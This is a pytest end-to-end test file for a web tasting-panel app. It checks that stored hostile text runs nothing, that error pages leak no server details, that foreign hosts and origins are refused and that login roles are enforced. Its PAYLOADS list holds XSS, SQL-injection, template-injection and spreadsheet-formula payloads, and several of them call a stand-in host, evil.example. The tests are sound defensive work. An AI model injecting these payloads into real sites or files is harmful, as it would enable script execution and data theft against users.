"""Hostile text and uninvited visitors, in a real browser against the real app."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import urlsplit
from urllib.request import Request, urlopen

import pytest

from formulator.store import Answers, Store, open_store
from formulator.store.tasting import TastingPlan, open_round
from formulator.web.accounts import add_user
from tests.benchmarks.web.ballots import N_CUPS, open_tasting
from tests.e2e.conftest import App, tab
from tests.e2e.test_story import open_view, settle
from tests.e2e.walk import choose
from tests.formulator.web.examples import candidate, proposal

pytestmark = [pytest.mark.browser, pytest.mark.slow]
PASSWORD = "correct horse battery"
PAYLOADS = (
    "<script>fetch('http://evil.example/a')</script>",
    "<img src=http://evil.example/b onerror=alert(1)>",
    "![x](http://evil.example/c)",
    "<svg onload=alert(1)><image href=http://evil.example/d>",
    "[click](javascript:alert(1)) $\\href{http://evil.example/e}{x}$",
    ":material/x: {{7*7}} ';DROP TABLE projects;-- =cmd|'/c calc'!A1",
)


def poison(store: Store) -> str:
    """Put hostile text wherever people may write; return a link to a ballot."""
    for payload in PAYLOADS:
        store.create_project(payload)
    project = store.create_project(("! " + "  ".join(PAYLOADS))[:190])  # stands first in the list
    answer = proposal()
    iteration = store.add_iteration(project.id, answer.brief.to_dict(), answer.to_dict())
    candidates = (candidate(0), candidate(1))
    tasters = PAYLOADS
    for name in (PAYLOADS[0], PAYLOADS[2]):
        opened = open_round(store, project.id, TastingPlan(name, candidates, tasters, iteration.id))
        for number, serving in enumerate(store.servings(opened.round.id)):
            answers = Answers(
                scores=dict.fromkeys(("overall", "taste"), 1 + number % 9),
                comment=PAYLOADS[number % len(PAYLOADS)],
            )
            store.submit(serving.id, answers, idempotency_key=f"{number:032d}")
        store.close_round(opened.round.id)
    opened = open_round(
        store, project.id, TastingPlan(PAYLOADS[1], candidates, tasters, iteration.id)
    )
    return opened.tokens[0][1]


@pytest.fixture(scope="module")
def poisoned(app: App) -> Iterator[str]:
    store = open_store(app.database_url)
    yield poison(store)
    store.close()


def test_hostile_text_runs_nothing_and_asks_no_foreign_server(
    app: App, browser: Any, poisoned: str
) -> None:
    with tab(browser, width=1440) as page:
        alarms: list[str] = []
        page.on("dialog", lambda d: (alarms.append(d.message), d.dismiss()))
        for view in ("", "panel", "compare", "taste", "data"):
            open_view(page, app, view)
            assert page.get_by_role("alert").get_by_text("Error").count() == 0
        open_view(page, app, "compare")
        choose(page, "Rounds")
        page.get_by_text("Wishes and comments").first.click()
        settle(page)
        page.goto(f"{app.url}/b/{poisoned}")
        assert page.evaluate("typeof fetch") == "function"
        foreign = {urlsplit(url).netloc for url in page.foreign if not url.startswith("data:")}
        assert foreign <= {urlsplit(app.url).netloc, ""}
        assert alarms == []


def test_five_fast_clicks_make_one_row_on_the_right_cup(
    app: App, browser: Any, poisoned: str
) -> None:
    store = open_store(app.database_url)
    seat = store.seat_by_token(poisoned)
    serving, code, _ = store.ballot_servings(seat.id)[0]
    with tab(browser, width=390) as page:
        open_view(page, app, f"taste?seat={poisoned}")
        page.get_by_label("Type the three digits").fill(code)
        page.get_by_label("Type the three digits").press("Tab")
        for question in ("Overall, how", "its taste", "its texture", "its appearance"):
            group = page.locator("[class*='st-key-nine']", has_text=question)
            group.get_by_role("radio", name="8", exact=True).click()
        page.get_by_role("button", name="Send").click(click_count=5)
        page.get_by_text("Cup 2 of 2").wait_for()
        settle(page)
    kept = [j for j in store.judgements(round_id=seat.round_id) if j.seat_id == seat.id]
    store.close()
    assert [(j.serving_id, j.scores["overall"]) for j in kept] == [(serving.id, 8)]


def fill_in(page: Any, code: str, score: str) -> None:
    """Answer everything about one cup on the Streamlit view, without sending."""
    page.get_by_label("Type the three digits").fill(code)
    page.get_by_label("Type the three digits").press("Tab")
    for question in ("Overall, how", "its taste", "its texture", "its appearance"):
        group = page.locator("[class*='st-key-nine']", has_text=question)
        group.get_by_role("radio", name=score, exact=True).click()


def test_reloading_while_sending_loses_and_doubles_nothing(app: App, browser: Any) -> None:
    """The page is loaded again right after the tap on Send, then the taster goes on."""
    _, tokens = open_tasting(app.database_url, n_tasters=1, name="Reloads")
    store = open_store(app.database_url)
    seat = store.seat_by_token(tokens[0])
    with tab(browser, width=390) as page:
        open_view(page, app, f"taste?seat={tokens[0]}")
        for number in range(2 * N_CUPS):
            left = [code for _, code, judged in store.ballot_servings(seat.id) if not judged]
            if not left:
                break
            page.get_by_role("heading", name=left[0]).wait_for()
            fill_in(page, left[0], str(1 + len(left)))
            page.get_by_role("button", name="Send").click()
            if number % 2 == 0:
                page.reload()
            else:
                page.get_by_role("heading", name=left[0]).wait_for(state="detached")
            settle(page)
        page.get_by_text("Thank you").first.wait_for()
    kept = {j.code: j.scores["overall"] for j in store.judgements(round_id=seat.round_id)}
    order = [code for _, code, _ in store.ballot_servings(seat.id)]
    store.close()
    assert kept == {code: 1 + N_CUPS - place for place, code in enumerate(order)}


def test_a_page_that_fails_tells_nothing_of_the_server(
    tmp_path_factory: pytest.TempPathFactory, browser: Any
) -> None:
    canary = "canary-of-the-server"
    broken = App(
        tmp_path_factory.mktemp(canary),
        first=(
            "import formulator.web.projects as p\n"
            "def fail(*_): raise RuntimeError('SELECT canary-of-the-server')\n"
            "p.current_user = fail"
        ),
    )
    broken.start()
    try:
        with tab(browser, width=1440) as page:
            told: list[bytes] = []

            def note(frame: bytes) -> None:
                told.append(frame)

            page.on("websocket", lambda socket: socket.on("framereceived", note))
            page.goto(broken.url)
            page.get_by_test_id("stException").wait_for()
            assert told
            assert canary not in page.content()
            raw = b"".join(f if isinstance(f, bytes) else f.encode() for f in told)
            assert canary.encode() not in raw
            assert b"Traceback" not in raw
            assert b"/formulator/web/" not in raw
    finally:
        broken.stop()
    assert "SELECT canary" in broken.log.read_text()


def status(url: str, **headers: str) -> int:
    request = Request(url, headers=headers)  # noqa: S310 - our own http URL
    try:
        with urlopen(request, timeout=5) as answer:  # noqa: S310 - as above
            return int(answer.status)
    except HTTPError as error:
        return error.code


def test_metrics_and_foreign_hosts_are_closed(app: App) -> None:
    assert status(f"{app.url}/_stcore/health") == 200
    assert status(f"{app.url}/_stcore/metrics") == 403
    assert status(app.url, Host="evil.example") == 403
    assert status(app.url, **{"X-Forwarded-For": "10.0.0.1"}) == 403


@pytest.mark.parametrize(
    "headers",
    ["", "Origin: http://evil.example\r\n", "Origin: null\r\n"],
    ids=["no origin", "foreign origin", "null origin"],
)
def test_a_foreign_page_cannot_drive_the_socket(app: App, headers: str) -> None:
    with socket.create_connection(("127.0.0.1", app.port), timeout=5) as link:
        link.sendall(
            (
                "GET /_stcore/stream HTTP/1.1\r\n"
                f"Host: 127.0.0.1:{app.port}\r\n"
                "Upgrade: websocket\r\nConnection: Upgrade\r\n"
                "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                f"{headers}\r\n"
            ).encode()
        )
        assert b" 403 " in link.recv(200).splitlines()[0]


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    made = App(
        tmp_path_factory.mktemp("team"),
        options="team=True",
        environment={"FORMULATOR_SECRET_KEY": "k" * 40},
    )
    store = open_store(made.database_url)
    for name, role in (("ann", "scientist"), ("pat", "product"), ("root", "admin")):
        add_user(store, name, role, PASSWORD)
    poison(store)
    store.close()
    made.start()
    yield made
    made.stop()


def log_in(page: Any, app: App, name: str) -> None:
    page.goto(app.url)
    page.get_by_label("Name").fill(name)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    settle(page)


def test_team_mode_asks_for_a_login_first(team: App, browser: Any, pictures: Path) -> None:
    with tab(browser, width=390) as page:
        page.goto(f"{team.url}/panel")
        assert page.url == f"{team.url}/login"
        page.screenshot(path=str(pictures / "login_390.png"))
        page.get_by_label("Name").fill("ann")
        page.get_by_label("Password").fill("wrong")
        page.get_by_role("button", name="Log in").click()
        page.get_by_text("Name or password is wrong.").wait_for()
    assert status(f"{team.url}/media/x.png") == 403


def test_each_role_sees_its_own_pages(team: App, browser: Any) -> None:
    with tab(browser, width=1440) as page:
        log_in(page, team, "pat")
        assert page.get_by_role("link", name="Design").count() == 0
        page.get_by_role("link", name="Compare").click()
        page.get_by_role("heading", name="Compare").wait_for()
        page.goto(f"{team.url}/design")
        page.get_by_text("Page not found").wait_for()
        assert page.get_by_text("Find formulas").count() == 0
    with tab(browser, width=1440) as page:
        log_in(page, team, "ann")
        page.get_by_role("heading", name="Design").wait_for()
        page.goto(f"{team.url}/design")
        page.get_by_role("heading", name="Design").wait_for()
        assert page.get_by_role("link", name="Accounts").count() == 0


def test_a_deactivated_account_loses_its_open_page(team: App, browser: Any) -> None:
    with tab(browser, width=1440) as page:
        log_in(page, team, "ann")
        page.get_by_role("heading", name="Design").wait_for()
        store = open_store(team.database_url)
        add_user(store, "ann", "product", PASSWORD)
        store.close()
        page.get_by_role("link", name="Data").click()
        page.get_by_role("link", name="Design").wait_for(state="detached")
        assert page.get_by_role("heading", name="Data").count() == 0
